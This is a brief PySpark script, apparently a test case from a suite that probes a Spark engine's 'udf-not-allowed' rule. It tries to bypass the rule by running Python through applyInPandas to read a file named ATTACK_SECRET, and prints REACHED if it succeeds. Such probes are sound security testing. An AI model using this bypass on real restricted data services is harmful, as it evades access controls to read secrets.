# attack: engine
# rule: udf-not-allowed
# goal: Read a file while mapping groups. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

def read(group):
    group['text'] = open('ATTACK_SECRET').read()
    return group


if spark.range(1).groupBy('id').applyInPandas(read, 'id long, text string').collect()[0][1]:
    print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
